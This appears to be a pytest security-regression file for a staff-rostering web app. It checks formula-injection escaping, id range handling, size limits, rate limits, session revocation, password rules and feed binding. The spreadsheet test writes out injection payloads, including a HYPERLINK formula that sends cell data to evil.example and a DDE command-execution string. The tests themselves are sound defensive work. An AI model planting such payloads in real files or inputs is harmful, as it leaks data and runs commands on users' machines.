"""The holes found in the web app, each closed with a test that failed before the fix: spreadsheet formulas,
ids out of range, body size, concurrent solves, sessions of locked accounts, the last admin, passwords,
user names' case, a throttle that survives restarts, feeds bound to a person, VTIMEZONE, the audit trail
and a /docs page that works under the app's own CSP."""

from __future__ import annotations

import io
import re
import zipfile
from typing import Any

import pytest
from icalendar import Calendar
from openpyxl import load_workbook

from roulement.store import accounts, repository
from roulement.store.models import User
from roulement.web.app import create_app
from roulement.web.jobs import SolveLimits
from tests.conftest import PASSWORD, Site, publish_approved, small_plant

TOO_BIG = 2**63  # past any integer a database column holds
LARGEST_ID = 2**31 - 1  # ids are INTEGER: 32-bit signed on PostgreSQL
NEW_PASSWORD = "violet tractor ninety umbrellas"


def test_spreadsheet_cells_that_look_like_formulas_are_written_as_text(site: Site) -> None:
    paula = site.client("paula")
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    for employee, name in (("e0", evil), ("e1", "+cmd|' /C calc'!A0"), ("e2", "@SUM(1+1)"), ("e3", "-2+3")):
        version = paula.get(f"/api/scenarios/{site.scenario_id}").json()["version"]
        changed = paula.patch(f"/api/scenarios/{site.scenario_id}/employees/{employee}",
                              json={"version": version, "changes": {"name": name}})
        assert changed.status_code == 200, changed.text
    body = paula.get(f"/api/rosters/{site.roster_id}/roster.xlsx").content
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not any("<f>" in sheet for sheet in sheets)  # no formula anywhere in the workbook
    grid = load_workbook(io.BytesIO(body))["Roster"]
    names = {grid.cell(row, 1).value: grid.cell(row, 2) for row in range(2, 8)}
    assert names["e0"].value == evil and names["e0"].data_type == "s"
    assert all(names[e].data_type == "s" for e in ("e1", "e2", "e3"))


def test_ids_out_of_range_answer_422_or_404_never_500(site: Site) -> None:
    clients = {"planner": site.client("paula"), "council": site.client("carla"), "admin": site.client("adam"),
               "employee": site.client("emma")}
    paths = clients["planner"].get("/openapi.json").json()["paths"]
    checked = 0
    for path, operations in paths.items():
        if "_id}" not in path:
            continue
        for method in operations:
            for client in clients.values():
                for number in (TOO_BIG, 10**30, -1, 0, 2**63 - 1, 2**31, LARGEST_ID):
                    concrete = re.sub(r"\{\w+_id\}", str(number), path).replace("{filename}", "roster.csv")
                    concrete = concrete.replace("{employee_id}", "e0").replace("{section}", "posts")
                    response = client.request(method.upper(), concrete, json={"version": 1})
                    assert response.status_code < 500, (method, concrete, response.status_code)
                    assert response.headers["content-type"].startswith("application/json")
                    checked += 1
    assert checked > 100
    assert clients["planner"].get(f"/api/rosters/{TOO_BIG}").status_code == 422
    assert clients["planner"].get(f"/api/rosters/{LARGEST_ID}").status_code == 404
    assert clients["planner"].get(f"/api/rosters/{LARGEST_ID + 1}").status_code == 422
    assert clients["planner"].get(f"/api/rosters?scenario_id={TOO_BIG}").status_code == 422
    assert clients["planner"].get(f"/roster/{TOO_BIG}").status_code == 422


def test_a_request_body_over_the_limit_is_413_whether_announced_or_streamed(site: Site) -> None:
    client = site.client()
    huge = b'{"username": "paula", "password": "' + b"x" * (20 * 1024 * 1024) + b'"}'
    announced = client.post("/api/login", content=huge, headers={"content-type": "application/json"})
    assert announced.status_code == 413 and announced.json()["field"] == "body"

    def chunks() -> Any:  # no Content-Length: the limit is enforced while reading
        yield b'{"username": "paula", "password": "'
        for _ in range(100):
            yield b"x" * 100_000
        yield b'"}'

    streamed = client.post("/api/login", content=chunks(), headers={"content-type": "application/json"})
    assert streamed.status_code == 413
    paula = site.client("paula")
    big_upload = {"version": 1, "format": "csv", "content": "id\n" + "e0\n" * 4_000_000, "filename": "x.csv"}
    assert paula.post(f"/api/scenarios/{site.scenario_id}/employees/import", json=big_upload).status_code == 413
    # An ordinary sign-in still passes.
    assert client.post("/api/login", json={"username": "paula", "password": PASSWORD}).status_code == 200


def plan_until_stopped(scenario: Any, time_limit: float, workers: int, carried: Any = None, *, on_progress: Any,
                       stop: Any) -> Any:
    """Run in the solver process instead of a plan: runs until cancelled (the cap is about how many run at
    once), and says it started through its progress."""
    from roulement.solve.search import Progress

    on_progress(Progress(elapsed=0.0, solutions=0, objective=None, bound=None))
    assert stop.wait(30)
    raise RuntimeError("stopped by the test")


def test_concurrent_solves_are_capped_per_site_and_per_server_with_a_clear_429(database_url: str) -> None:
    app = create_app(database_url, solver_workers=1, limits=SolveLimits(per_site=1, per_server=2, retry_after=20))
    app.state.jobs.plan_work = plan_until_stopped
    site = _site_on(app)
    other_site = small_plant().model_copy(update={"site": small_plant().site.model_copy(update={"name": "Elsewhere"})})
    with app.state.backend.transaction() as session:
        same_site_id = repository.add_scenario(session, None, small_plant(), "same site").id
        other_site_id = repository.add_scenario(session, None, other_site, "other site").id
        third_site_id = repository.add_scenario(
            session, None, small_plant().model_copy(update={"site": other_site.site.model_copy(
                update={"name": "Third"})}), "third").id
    paula = site.client("paula")
    first = paula.post(f"/api/scenarios/{site.scenario_id}/solve", json={"time_limit": 60})
    assert first.status_code == 202
    busy_site = paula.post(f"/api/scenarios/{same_site_id}/solve", json={"time_limit": 60})
    assert busy_site.status_code == 429 and busy_site.headers["Retry-After"] == "20"
    assert "site" in busy_site.json()["detail"]
    second = paula.post(f"/api/scenarios/{other_site_id}/solve", json={"time_limit": 60})
    assert second.status_code == 202
    busy_server = paula.post(f"/api/scenarios/{third_site_id}/solve", json={"time_limit": 60})
    assert busy_server.status_code == 429 and "server" in busy_server.json()["detail"]
    for job in (first.json(), second.json()):
        paula.post(f"/api/jobs/{job['id']}/cancel")
    app.state.jobs.wait(30)
    # Once they ended, a solve may start again; and each outcome is in the audit trail.
    third = paula.post(f"/api/scenarios/{third_site_id}/solve", json={"time_limit": 60})
    assert third.status_code == 202
    paula.post(f"/api/jobs/{third.json()['id']}/cancel")
    app.state.jobs.wait(30)
    actions = [e["action"] for e in site.client("adam").get("/api/audit?entity=job").json()["entries"]]
    assert actions.count("solve.failed") == 3 and actions.count("solve.start") == 3
    app.state.backend.engine.dispose()


def _site_on(app: Any) -> Site:
    with app.state.backend.transaction() as session:
        for name, role in (("paula", "planner"), ("adam", "admin")):
            accounts.add_user(session, name, role, PASSWORD)
        scenario_id = repository.add_scenario(session, None, small_plant(), "Test plant").id
    return Site(app, scenario_id, 0)


def test_locking_an_account_ends_its_sessions_for_good(site: Site) -> None:
    emma, adam = site.client("emma"), site.client("adam")
    emma_id = next(u["id"] for u in adam.get("/api/users").json() if u["username"] == "emma")
    assert adam.patch(f"/api/users/{emma_id}", json={"active": False}).status_code == 200
    assert adam.patch(f"/api/users/{emma_id}", json={"active": True}).status_code == 200
    assert emma.get("/api/me").status_code == 401  # unlocking does not revive the old session
    assert site.client("emma").get("/api/me").status_code == 200


def test_the_last_active_admin_can_be_neither_demoted_nor_locked(site: Site) -> None:
    adam = site.client("adam")
    adam_id = adam.get("/api/me").json()["id"]
    demoted = adam.patch(f"/api/users/{adam_id}", json={"role": "planner"})
    assert demoted.status_code == 422 and demoted.json()["field"] == "role"
    assert adam.get("/api/me").json()["role"] == "admin"
    other = adam.post("/api/users", json={"username": "alma", "password": NEW_PASSWORD, "role": "admin"}).json()
    assert adam.patch(f"/api/users/{other['id']}", json={"active": False}).status_code == 200
    assert adam.patch(f"/api/users/{adam_id}", json={"role": "planner"}).status_code == 422  # alma is locked
    assert adam.patch(f"/api/users/{other['id']}", json={"active": True}).status_code == 200
    assert adam.patch(f"/api/users/{adam_id}", json={"role": "planner"}).status_code == 200
    assert adam.get("/api/me").status_code == 401  # a role change ends the sessions too


def test_everyone_changes_their_own_password_which_ends_their_other_sessions(site: Site) -> None:
    phone, laptop = site.client("emma"), site.client("emma")
    laptop.cookies.set("roulement_lang", "de")  # the refusals in the reader's language
    wrong = laptop.post("/api/me/password", json={"current_password": "nope", "new_password": NEW_PASSWORD})
    assert wrong.status_code == 422 and wrong.json()["field"] == "current_password"
    assert wrong.json()["detail"] == "current_password: das ist nicht Ihr aktuelles Passwort"
    weak = laptop.post("/api/me/password", json={"current_password": PASSWORD, "new_password": "password123"})
    assert weak.status_code == 422 and weak.json()["field"] == "new_password"
    assert weak.json()["detail"].startswith("new_password: zu leicht zu erraten")
    done = laptop.post("/api/me/password", json={"current_password": PASSWORD, "new_password": NEW_PASSWORD})
    assert done.status_code == 200
    assert laptop.get("/api/me").status_code == 200 and phone.get("/api/me").status_code == 401
    assert site.client().post("/api/login", json={"username": "emma", "password": PASSWORD}).status_code == 401
    assert site.client().post("/api/login", json={"username": "emma", "password": NEW_PASSWORD}).status_code == 200


@pytest.mark.parametrize("password", ["short", "password123", "qwertyuiop12", "Summer2024!", "nora1234567",
                                      "aaaaaaaaaaaa"])
def test_weak_or_common_passwords_are_refused_with_the_field_named(site: Site, password: str) -> None:
    made = site.client("adam").post("/api/users", json={"username": "nora", "password": password, "role": "planner"})
    assert made.status_code == 422 and made.json()["field"] == "password", made.text


def test_user_names_are_case_insensitive(site: Site) -> None:
    assert site.client().post("/api/login", json={"username": "PAULA", "password": PASSWORD}).status_code == 200
    twin = site.client("adam").post("/api/users", json={"username": "Paula", "password": NEW_PASSWORD,
                                                         "role": "planner"})
    assert twin.status_code == 409 and twin.json()["field"] == "username"


def test_the_login_throttle_survives_a_restart(site: Site, database_url: str) -> None:
    client = site.client()
    for _ in range(5):
        assert client.post("/api/login", json={"username": "Paula", "password": "guess"}).status_code == 401
    restarted = create_app(database_url, solver_workers=1)
    from fastapi.testclient import TestClient

    blocked = TestClient(restarted).post("/api/login", json={"username": "paula", "password": PASSWORD})
    assert blocked.status_code == 429 and int(blocked.headers["Retry-After"]) > 0
    restarted.state.backend.engine.dispose()


def test_a_feed_shows_the_person_it_was_made_for_and_relinking_revokes_it(site: Site) -> None:
    emma, adam = site.client("emma"), site.client("adam")
    publish_approved(site)
    url = emma.post("/api/me/feed").json()["url"]
    anonymous = site.client()
    assert "e0-2026-01-05-M@roulement" in anonymous.get(url).text
    # The account is pointed at someone else behind the API's back: the link still shows e0.
    with site.app.state.backend.transaction() as session:  # type: ignore[attr-defined]
        session.query(User).filter_by(username="emma").one().employee_id = "e1"
    text = anonymous.get(url).text
    assert "e0-2026-01-05-M@roulement" in text and "e1-" not in text
    # Relinking through the admin's API revokes the account's links.
    emma_id = next(u["id"] for u in adam.get("/api/users").json() if u["username"] == "emma")
    assert adam.patch(f"/api/users/{emma_id}", json={"employee_id": "e2"}).status_code == 200
    assert anonymous.get(url).status_code == 404


def test_the_feed_carries_a_vtimezone_for_its_tzid(site: Site) -> None:
    publish_approved(site)
    feed = site.client().get(site.client("emma").post("/api/me/feed").json()["url"]).content
    calendar = Calendar.from_ical(feed)
    zones = [str(c["TZID"]) for c in calendar.walk("VTIMEZONE")]
    used = {e["DTSTART"].params["TZID"] for e in calendar.walk("VEVENT")}
    assert used == {"Europe/Paris"} and zones == ["Europe/Paris"]
    assert {c.name for c in calendar.walk("VTIMEZONE")[0].subcomponents} >= {"STANDARD", "DAYLIGHT"}


def test_the_audit_trail_has_sign_ins_and_failures_pages_and_zoned_times(site: Site) -> None:
    anonymous = site.client()
    anonymous.post("/api/login", json={"username": "emma", "password": "wrong"})
    emma = site.client("emma")
    emma.post("/api/logout")
    adam = site.client("adam")
    page = adam.get("/api/audit", params={"entity": "user", "action": "session", "limit": 2}).json()
    assert [e["action"] for e in page["entries"]] == ["session.sign_in", "session.sign_out"]  # adam, then emma
    rest = adam.get("/api/audit", params={"entity": "user", "action": "session", "limit": 2,
                                          "before_id": page["next_before_id"]}).json()
    assert [e["action"] for e in rest["entries"]] == ["session.sign_in", "session.failed_sign_in"]
    failed = rest["entries"][1]
    assert failed["after"]["username"] == "emma" and failed["user"] == "(not signed in)" and failed["after"]["address"]
    assert all(re.search(r"[+-]\d\d:\d\d$", e["at"]) for e in page["entries"] + rest["entries"])
    assert rest["next_before_id"] is None


def test_docs_serve_swagger_ui_from_the_app_itself(site: Site) -> None:
    client = site.client()
    page = client.get("/docs")
    assert page.status_code == 200 and "swagger-ui" in page.text
    assert "http" not in page.text.replace("http-equiv", "")  # nothing from a CDN
    assert "<script>" not in page.text  # no inline script: the CSP forbids it
    for asset in re.findall(r'(?:src|href)="([^"]+)"', page.text):
        assert client.get(asset).status_code == 200, asset
